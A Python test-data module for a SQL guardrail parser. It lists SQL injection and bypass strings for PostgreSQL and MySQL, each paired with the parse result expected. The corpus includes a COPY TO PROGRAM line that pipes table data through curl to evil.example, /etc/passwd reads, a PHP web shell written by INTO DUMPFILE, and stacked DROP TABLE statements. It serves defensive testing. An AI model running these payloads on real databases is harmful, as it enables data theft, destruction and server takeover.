"""SQL that tries to get a dangerous operation past a guardrail: kept as data for reuse.

Each entry is ``(dialect, sql, expectation)``. ``expectation`` says what a guardrail must be able
to see in ``parse_sql(sql, dialect)``, over all the statements of the string:

- ``{"unparseable": True}``: ``UnparseableOperation`` is raised (policy then denies or asks);
- ``"kind"`` / ``"ddl_action"`` / ``"object_type"``: some statement has that value;
- ``"kinds"``: the kinds of all statements, in order;
- ``"writes"`` / ``"reads"`` / ``"functions"`` / ``"features"``: all of these names appear in the
  statements' ``tables_written`` / ``tables_read`` / ``functions`` / ``features`` (together);
- ``"no_writes": True``: no statement writes a table; ``"has_where": False``: some UPDATE or DELETE
  has no (real) WHERE clause.

``tests/test_sql_operations.py`` checks every entry with ``expectation_failures``; the policy
engine's bypass suite replays them against its rules.
"""

from __future__ import annotations

from typing import Any

from wardgate.operations import UnparseableOperation
from wardgate.operations.sql import SqlOperation, parse_sql

UNPARSEABLE: dict[str, Any] = {"unparseable": True}
PG = "postgres"
MY = "mysql"

BYPASS_CORPUS: list[tuple[str, str, dict[str, Any]]] = [
    # --- stacked statements: the second one must be seen
    (
        PG,
        "SELECT 1; DROP TABLE users",
        {"kinds": ["select", "ddl"], "ddl_action": "drop", "writes": ["users"]},
    ),
    (
        MY,
        "SELECT 1; DROP TABLE users",
        {"kinds": ["select", "ddl"], "ddl_action": "drop", "writes": ["users"]},
    ),
    (PG, "; ; DELETE FROM users;;", {"kinds": ["delete"], "writes": ["users"], "has_where": False}),
    (PG, "SELECT 1 -- harmless\n; DROP TABLE x", {"kinds": ["select", "ddl"], "writes": ["x"]}),
    (PG, "SELECT 1 -- comment ends at a carriage return in PostgreSQL\r; DROP TABLE x", {"writes": ["x"]}),
    (MY, "SELECT 1 # ; DROP TABLE x\n; DROP TABLE y", {"kinds": ["select", "ddl"], "writes": ["y"]}),
    (MY, "SELECT 1 -- a\r; DROP TABLE x", UNPARSEABLE),  # where does MySQL's comment end? refuse
    (
        MY,
        "SELECT 1 --1; DROP TABLE x",
        {"kinds": ["select", "ddl"], "writes": ["x"]},
    ),  # `--1` is minus minus one
    (
        PG,
        "BEGIN; DELETE FROM users; COMMIT",
        {"kinds": ["transaction", "delete", "transaction"], "writes": ["users"]},
    ),
    # --- comments that hide or split keywords
    (PG, "/* DELETE FROM users */ SELECT 1", {"kinds": ["select"], "no_writes": True}),
    (PG, "DELETE/**/FROM users", {"kind": "delete", "writes": ["users"], "has_where": False}),
    (PG, "DEL/**/ETE FROM users", UNPARSEABLE),
    (PG, "/* outer /* nested */ DROP TABLE x; */ SELECT 1", {"kinds": ["select"], "no_writes": True}),
    (MY, "/* MySQL does not nest /* */ DROP TABLE x; */ SELECT 1", UNPARSEABLE),
    (MY, "/*!50000 DROP TABLE users */", {"kind": "ddl", "ddl_action": "drop", "writes": ["users"]}),
    (MY, "SELECT 1 /*! ; DROP TABLE users */", {"kinds": ["select", "ddl"], "writes": ["users"]}),
    (MY, "SELECT 1 /*!, (SELECT LOAD_FILE('/etc/passwd')) */", {"functions": ["load_file"]}),
    (MY, "/*M!100100 DELETE FROM users */", {"kind": "delete", "writes": ["users"]}),
    (
        PG,
        "/*!50000 DROP TABLE users */ SELECT 1",
        {"kinds": ["select"], "no_writes": True},
    ),  # a plain comment
    # --- strings, dollar quoting and identifiers that contain ';' or keywords
    (PG, "SELECT $$ ; DROP TABLE x $$", {"kinds": ["select"], "no_writes": True}),
    (PG, "SELECT $tag$ $$ ; $tag$; DROP TABLE x", {"kinds": ["select", "ddl"], "writes": ["x"]}),
    (PG, "SELECT 'a'';DROP TABLE x;--'", {"kinds": ["select"], "no_writes": True}),
    (PG, "SELECT E'\\'; DROP TABLE x; --'", {"kinds": ["select"], "no_writes": True}),
    (PG, "SELECT 'a\\'; DROP TABLE x; --'", UNPARSEABLE),  # depends on standard_conforming_strings
    (MY, "SELECT 'a\\'; DROP TABLE x; -- '", UNPARSEABLE),  # depends on NO_BACKSLASH_ESCAPES
    (MY, 'SELECT "a\\"; DROP TABLE x; -- "', UNPARSEABLE),  # depends on ANSI_QUOTES
    (PG, 'SELECT "x;y" FROM t; DROP TABLE z', {"kinds": ["select", "ddl"], "writes": ["z"]}),
    (PG, 'DELETE FROM "Users"', {"kind": "delete", "writes": ["Users"]}),
    (PG, '"DeLeTe" FROM users', UNPARSEABLE),
    (PG, 'SELECT * FROM "DeLeTe"', {"kind": "select", "reads": ["DeLeTe"], "no_writes": True}),
    (MY, "DELETE FROM `users` WHERE 1", {"kind": "delete", "writes": ["users"], "has_where": False}),
    (PG, 'SELECT * FROM U&"\\0075sers"', UNPARSEABLE),
    (PG, "SELECT U&'d\\0061ta' UESCAPE '!'", UNPARSEABLE),
    # --- case, whitespace and look-alike characters
    (PG, "dElEtE fRoM users", {"kind": "delete", "writes": ["users"], "has_where": False}),
    (PG, "DELETE\tFROM\nusers\x0cWHERE\t1=1", {"kind": "delete", "writes": ["users"], "has_where": False}),
    (PG, "DELETE\u00a0FROM users", UNPARSEABLE),
    (PG, "DEL\u200bETE FROM users", UNPARSEABLE),
    (PG, "\uff24\uff25\uff2c\uff25\uff34\uff25 FROM users", UNPARSEABLE),
    (PG, "SELECT 1\x00; DROP TABLE users", UNPARSEABLE),
    # --- trivially true WHERE clauses
    (PG, "DELETE FROM users WHERE 1=1", {"kind": "delete", "has_where": False}),
    (
        PG,
        "UPDATE users SET admin = true WHERE true",
        {"kind": "update", "writes": ["users"], "has_where": False},
    ),
    (PG, "DELETE FROM users WHERE 'a'='a'", {"kind": "delete", "has_where": False}),
    (PG, "DELETE FROM users WHERE id = id", {"kind": "delete", "has_where": False}),
    (PG, "DELETE FROM users WHERE name LIKE '%'", {"kind": "delete", "has_where": False}),
    (PG, "DELETE FROM users WHERE id = 7 OR 2 > 1", {"kind": "delete", "has_where": False}),
    (PG, "DELETE FROM users WHERE 't'", {"kind": "delete", "has_where": False}),
    (MY, "DELETE FROM users WHERE '1abc'", {"kind": "delete", "has_where": False}),
    (MY, "UPDATE users SET admin = 1 WHERE 1 = '1'", {"kind": "update", "has_where": False}),
    (PG, "DELETE FROM users USING orders", {"kind": "delete", "writes": ["users"], "has_where": False}),
    (MY, "DELETE FROM users LIMIT 1000", {"kind": "delete", "writes": ["users"], "has_where": False}),
    # --- writes hidden in queries
    (
        PG,
        "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
        {"kind": "select", "writes": ["users"], "features": ["writes_in_cte"]},
    ),
    (
        PG,
        "WITH a AS (WITH b AS (UPDATE users SET x = 1 RETURNING *) SELECT * FROM b) SELECT 1",
        {"writes": ["users"], "features": ["writes_in_cte"]},
    ),
    (PG, "WITH users AS (SELECT 1) DELETE FROM users", {"kind": "delete", "writes": ["users"]}),
    (
        PG,
        "SELECT * INTO stolen FROM users",
        {"kind": "select", "writes": ["stolen"], "reads": ["users"], "features": ["select_into"]},
    ),
    (
        PG,
        "CREATE TABLE stolen AS SELECT * FROM users",
        {"kind": "ddl", "ddl_action": "create", "writes": ["stolen"], "reads": ["users"]},
    ),
    (
        PG,
        "INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET admin = true",
        {"kind": "insert", "writes": ["users"], "features": ["upsert"]},
    ),
    (
        PG,
        "MERGE INTO users u USING staging s ON u.id = s.id WHEN MATCHED THEN DELETE",
        {"kind": "merge", "writes": ["users"], "reads": ["staging"]},
    ),
    (
        MY,
        "REPLACE INTO users (id, admin) VALUES (1, 1)",
        {"kind": "insert", "writes": ["users"], "features": ["replace"]},
    ),
    (
        MY,
        "INSERT INTO users (id) VALUES (1) ON DUPLICATE KEY UPDATE admin = 1",
        {"writes": ["users"], "features": ["upsert"]},
    ),
    (
        MY,
        "DELETE u FROM users u JOIN bans b ON b.uid = u.id",
        {"kind": "delete", "writes": ["users"], "reads": ["bans"]},
    ),
    (
        MY,
        "UPDATE users a JOIN orders o ON o.uid = a.id SET a.admin = 1",
        {"kind": "update", "writes": ["users"]},
    ),
    (
        PG,
        "EXPLAIN ANALYZE DELETE FROM users",
        {"kind": "explain", "writes": ["users"], "features": ["explain_analyze"]},
    ),
    (
        PG,
        "EXPLAIN (ANALYZE, COSTS off) UPDATE users SET x = 1",
        {"kind": "explain", "writes": ["users"], "features": ["explain_analyze"]},
    ),
    (
        PG,
        "COPY (DELETE FROM users RETURNING *) TO STDOUT",
        {"kind": "copy", "writes": ["users"], "features": ["copy_stdio"]},
    ),
    # --- prepared statements and dynamic SQL
    (
        PG,
        "PREPARE p AS DELETE FROM users; EXECUTE p",
        {"kinds": ["prepare", "execute"], "writes": ["users"], "features": ["dynamic_sql"]},
    ),
    (PG, "EXECUTE p(1)", {"kind": "execute", "features": ["dynamic_sql"]}),
    (
        PG,
        "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
        {"kind": "do", "features": ["do_block", "dynamic_sql"]},
    ),
    (
        PG,
        "DO LANGUAGE plpython3u $x$ import os; os.system('id') $x$",
        {"kind": "do", "features": ["do_block", "untrusted_language"]},
    ),
    (
        PG,
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
        {"kind": "ddl", "ddl_action": "create", "object_type": "function", "features": ["dynamic_sql"]},
    ),
    (
        PG,
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM users RETURNING 1'",
        {"kind": "ddl", "object_type": "function", "writes": ["users"]},
    ),
    (
        PG,
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM users; SELECT 1; END",
        UNPARSEABLE,
    ),
    (
        MY,
        "PREPARE s FROM 'DELETE FROM users'",
        {"kind": "prepare", "writes": ["users"], "features": ["dynamic_sql"]},
    ),
    (MY, "PREPARE s FROM 0x44454c4554452046524f4d207573657273", {"kind": "prepare", "writes": ["users"]}),
    (
        MY,
        "SET @q = 'DROP TABLE users'; PREPARE s FROM @q; EXECUTE s",
        {"kinds": ["set", "prepare", "execute"], "features": ["dynamic_sql"]},
    ),
    (MY, "PREPARE s FROM CONCAT('DROP ', 'TABLE users')", UNPARSEABLE),
    (MY, "EXECUTE IMMEDIATE 'DROP TABLE users'", UNPARSEABLE),
    (MY, "BEGIN NOT ATOMIC DELETE FROM users; END", UNPARSEABLE),
    (MY, "CREATE PROCEDURE p() BEGIN DELETE FROM users; END", UNPARSEABLE),
    # --- files, programs, network and server functions
    (
        PG,
        "COPY users TO PROGRAM 'curl -d @- https://evil.example'",
        {"kind": "copy", "reads": ["users"], "features": ["copy_program"]},
    ),
    (PG, "COPY pwned FROM PROGRAM 'id'", {"kind": "copy", "writes": ["pwned"], "features": ["copy_program"]}),
    (PG, "COPY t FROM '/etc/passwd'", {"kind": "copy", "writes": ["t"], "features": ["copy_file"]}),
    (
        PG,
        "COPY (SELECT * FROM users) TO '/tmp/users.csv'",
        {"kind": "copy", "reads": ["users"], "features": ["copy_file"]},
    ),
    (PG, "SELECT pg_read_file('/etc/passwd')", {"kind": "select", "functions": ["pg_read_file"]}),
    (
        PG,
        "SELECT pg_catalog.pg_read_file('/etc/passwd')",
        {"functions": ["pg_read_file", "pg_catalog.pg_read_file"]},
    ),
    (PG, "SELECT \"pg_read_file\"('/etc/passwd')", {"functions": ["pg_read_file"]}),
    (PG, "SELECT * FROM pg_ls_dir('/') AS d", {"functions": ["pg_ls_dir"]}),
    (PG, "SELECT id FROM users ORDER BY (SELECT pg_sleep(10))", {"functions": ["pg_sleep"]}),
    (PG, "SELECT * FROM users WHERE id IN (SELECT lo_export(1, '/tmp/x'))", {"functions": ["lo_export"]}),
    (PG, "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", {"functions": ["dblink"]}),
    (PG, "SELECT set_config('role', 'postgres', false)", {"functions": ["set_config"]}),
    (PG, "VALUES (pg_terminate_backend(42))", {"kind": "select", "functions": ["pg_terminate_backend"]}),
    (
        PG,
        "CALL s.proc(lo_import('/etc/passwd'))",
        {"kind": "call", "functions": ["lo_import", "proc", "s.proc"]},
    ),
    (PG, "LOAD '/tmp/evil.so'", {"kind": "other", "features": ["load_library"]}),
    (
        PG,
        "CREATE FUNCTION sys(text) RETURNS int LANGUAGE c AS '/tmp/evil.so', 'sys'",
        {"kind": "ddl", "features": ["untrusted_language"]},
    ),
    (
        MY,
        "SELECT * FROM users INTO OUTFILE '/var/www/shell.php'",
        {"kind": "select", "features": ["into_outfile"]},
    ),
    (
        MY,
        "SELECT '<?php system($_GET[1]); ?>' INTO DUMPFILE '/var/www/x.php'",
        {"features": ["into_dumpfile"]},
    ),
    (MY, "SELECT LOAD_FILE('/etc/passwd')", {"functions": ["load_file"]}),
    (MY, "SELECT * FROM users WHERE id = 1 AND SLEEP(5)", {"functions": ["sleep"]}),
    (MY, "DO SLEEP(5)", {"kind": "do", "functions": ["sleep"]}),
    (
        MY,
        "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",
        {"kind": "copy", "writes": ["t"], "features": ["load_data_infile", "load_data_local"]},
    ),
    (MY, "HANDLER users OPEN", {"reads": ["users"], "features": ["handler"]}),
    # --- privileges, roles and server settings
    (PG, "GRANT ALL ON users TO PUBLIC", {"kind": "grant", "object_type": "table", "writes": ["users"]}),
    (PG, "GRANT pg_read_server_files TO me", {"kind": "grant", "object_type": "role"}),
    (PG, "REVOKE SELECT ON audit_log FROM auditor", {"kind": "revoke", "writes": ["audit_log"]}),
    (PG, "ALTER ROLE me SUPERUSER", {"kind": "ddl", "ddl_action": "alter", "object_type": "role"}),
    (PG, "ALTER SYSTEM SET log_statement = 'none'", {"kind": "ddl", "features": ["alter_system"]}),
    (PG, "SET ROLE postgres", {"kind": "set", "features": ["set_role"]}),
    (PG, 'SET "search_path" = evil, public', {"kind": "set", "features": ["set_search_path"]}),
    (PG, "CREATE EXTENSION dblink", {"kind": "ddl", "ddl_action": "create", "object_type": "extension"}),
    (MY, "GRANT ALL ON *.* TO 'me'@'%'", {"kind": "grant", "object_type": "global"}),
    (MY, "SET GLOBAL general_log = 0", {"kind": "set", "features": ["set_global"]}),
    (MY, "SET PASSWORD FOR root = 'x'", {"kind": "ddl", "object_type": "user"}),
    # --- destructive DDL in its various spellings
    (PG, "TRUNCATE users", {"kind": "ddl", "ddl_action": "truncate", "writes": ["users"]}),
    (
        PG,
        "DROP TABLE IF EXISTS audit_log, users CASCADE",
        {"kind": "ddl", "ddl_action": "drop", "writes": ["audit_log", "users"]},
    ),
    (
        PG,
        "ALTER TABLE users RENAME TO users_old",
        {"kind": "ddl", "ddl_action": "rename", "writes": ["users", "users_old"]},
    ),
    (PG, "DROP SCHEMA public CASCADE", {"kind": "ddl", "ddl_action": "drop", "object_type": "schema"}),
    (PG, "CREATE RULE r AS ON SELECT TO t DO ALSO DELETE FROM users", {"kind": "ddl", "writes": ["users"]}),
    (
        PG,
        "CREATE TRIGGER t AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION f()",
        {"kind": "ddl", "writes": ["users"]},
    ),
    (MY, "RENAME TABLE users TO users_old", {"kind": "ddl", "ddl_action": "rename", "writes": ["users"]}),
    (MY, "TRUNCATE TABLE users", {"kind": "ddl", "ddl_action": "truncate", "writes": ["users"]}),
    (PG, "LOCK TABLE users IN ACCESS EXCLUSIVE MODE", {"kind": "lock", "writes": ["users"]}),
    (PG, "VACUUM FULL users", {"kind": "other", "writes": ["users"]}),
    # --- locking reads: a SELECT that takes row locks is not a read (PostgreSQL refuses it read-only)
    (PG, "SELECT * FROM accounts FOR UPDATE", {"kind": "select", "features": ["row_lock"]}),
    (PG, "SELECT * FROM accounts FOR NO KEY UPDATE NOWAIT", {"kind": "select", "features": ["row_lock"]}),
    (PG, "SELECT * FROM accounts FOR SHARE SKIP LOCKED", {"kind": "select", "features": ["row_lock"]}),
    (PG, "SELECT * FROM accounts FOR KEY SHARE OF accounts", {"kind": "select", "features": ["row_lock"]}),
    (PG, "SELECT * FROM a, b FOR UPDATE OF a FOR SHARE OF b NOWAIT", {"features": ["row_lock"]}),
    (PG, "SELECT * FROM accounts LIMIT 1 FOR UPDATE", {"features": ["row_lock"]}),
    (PG, "SELECT * FROM accounts /* lock */ FOR/**/UPDATE", {"features": ["row_lock"]}),
    (PG, "TABLE accounts FOR UPDATE", {"kind": "select", "features": ["row_lock"]}),
    (PG, "(SELECT * FROM accounts) FOR UPDATE", {"kind": "select", "features": ["row_lock"]}),
    (PG, "((SELECT * FROM accounts) FOR KEY SHARE SKIP LOCKED)", {"features": ["row_lock"]}),
    (PG, "WITH c AS (SELECT * FROM accounts FOR UPDATE) SELECT * FROM c", {"features": ["row_lock"]}),
    (PG, "SELECT * FROM (SELECT * FROM accounts FOR SHARE) s", {"features": ["row_lock"]}),
    (
        PG,
        "SELECT * FROM users WHERE id IN (SELECT user_id FROM accounts FOR UPDATE SKIP LOCKED)",
        {"kind": "select", "features": ["row_lock"]},
    ),
    (PG, "SELECT EXISTS (SELECT 1 FROM accounts FOR NO KEY UPDATE)", {"features": ["row_lock"]}),
    (PG, "SELECT 1 UNION ALL (SELECT id FROM accounts FOR UPDATE)", {"features": ["row_lock"]}),
    (PG, "(SELECT id FROM accounts FOR SHARE) EXCEPT SELECT 2", {"features": ["row_lock"]}),
    (PG, "EXPLAIN SELECT * FROM accounts FOR UPDATE", {"kind": "explain", "features": ["row_lock"]}),
    (PG, "SELECT * FROM accounts FOR UPDATE OF", UNPARSEABLE),
    (MY, "SELECT * FROM accounts FOR UPDATE", {"kind": "select", "features": ["row_lock"]}),
    (MY, "SELECT * FROM accounts FOR SHARE", {"kind": "select", "features": ["row_lock"]}),
    (MY, "SELECT * FROM accounts LOCK IN SHARE MODE", {"kind": "select", "features": ["row_lock"]}),
    (MY, "select * from accounts lock  in  share mode", {"features": ["row_lock"]}),
    (MY, "SELECT * FROM accounts FOR UPDATE NOWAIT", {"features": ["row_lock"]}),
    (MY, "SELECT * FROM accounts FOR SHARE OF accounts SKIP LOCKED", {"features": ["row_lock"]}),
    (MY, "SELECT * FROM accounts WHERE id = 1 FOR UPDATE WAIT 5", {"features": ["row_lock"]}),  # MariaDB
    (
        MY,
        "SELECT * FROM accounts /*!40000 FOR UPDATE */",
        {"features": ["row_lock", "mysql_executable_comment"]},
    ),
    (MY, "(SELECT * FROM accounts) FOR UPDATE", {"kind": "select", "features": ["row_lock"]}),
    (MY, "WITH c AS (SELECT * FROM accounts FOR UPDATE) SELECT * FROM c", {"features": ["row_lock"]}),
    (
        MY,
        "SELECT * FROM users WHERE id IN (SELECT user_id FROM accounts LOCK IN SHARE MODE)",
        {"features": ["row_lock"]},
    ),
    (MY, "SELECT id FROM users UNION (SELECT id FROM accounts FOR UPDATE)", {"features": ["row_lock"]}),
    (MY, "(SELECT * FROM accounts) LOCK IN SHARE MODE", UNPARSEABLE),  # sqlglot cannot read it: refused
    # look-alikes: the words in a string, a comment, or a function's argument lock nothing
    (PG, "SELECT 'FOR UPDATE' FROM accounts -- FOR SHARE", {"kinds": ["select"], "no_writes": True}),
    (
        PG,
        "SELECT substring(note FROM 1 FOR share) FROM accounts",
        {"kinds": ["select"], "reads": ["accounts"]},
    ),
    (
        MY,
        "SELECT 'LOCK IN SHARE MODE' FROM accounts # FOR UPDATE\n",
        {"kinds": ["select"], "no_writes": True},
    ),
    # --- statements that are not what they look like
    (PG, "SHOW search_path; DROP TABLE x", {"kinds": ["show", "ddl"]}),
    (PG, "PREPARE TRANSACTION 'x'", {"kind": "transaction"}),
    (PG, "users", UNPARSEABLE),
    (PG, "DELIMITER //", UNPARSEABLE),
    (PG, "\\copy users TO '/tmp/x'", UNPARSEABLE),
    (
        PG,
        "SELECT * FROM users WHERE id = 1 UNION SELECT * FROM passwords",
        {"kind": "select", "reads": ["passwords", "users"]},
    ),
    (
        PG,
        "SELECT * FROM users UNION ALL (WITH users AS (SELECT 1) SELECT * FROM users)",
        {"reads": ["users"]},
    ),
]


def expectation_failures(sql: str, dialect: str, expectation: dict[str, Any]) -> list[str]:
    """What in ``parse_sql(sql, dialect)`` does not meet ``expectation`` (empty when all is met)."""
    try:
        operation: SqlOperation = parse_sql(sql, dialect)  # type: ignore[arg-type]
    except UnparseableOperation as exc:
        return [] if expectation.get("unparseable") else [f"unparseable: {exc.reason}"]
    if expectation.get("unparseable"):
        return [f"parsed as {operation.to_record()}"]
    statements = operation.statements
    failures = []
    for key in ("kind", "ddl_action", "object_type"):
        if key in expectation and expectation[key] not in [getattr(s, key) for s in statements]:
            failures.append(f"no statement with {key} {expectation[key]!r}")
    if "kinds" in expectation and [s.kind for s in statements] != expectation["kinds"]:
        failures.append(f"kinds are {[s.kind for s in statements]}")
    for key, field in (
        ("writes", "tables_written"),
        ("reads", "tables_read"),
        ("functions", "functions"),
        ("features", "features"),
    ):
        seen = {name for s in statements for name in getattr(s, field)}
        missing = set(expectation.get(key, ())) - seen
        if missing:
            failures.append(f"{field} lacks {sorted(missing)} (has {sorted(seen)})")
    if expectation.get("no_writes") and any(s.tables_written for s in statements):
        failures.append("a statement writes")
    if "has_where" in expectation and expectation["has_where"] not in [
        s.has_where for s in statements if s.kind in ("update", "delete")
    ]:
        failures.append(f"no update/delete with has_where {expectation['has_where']}")
    return failures
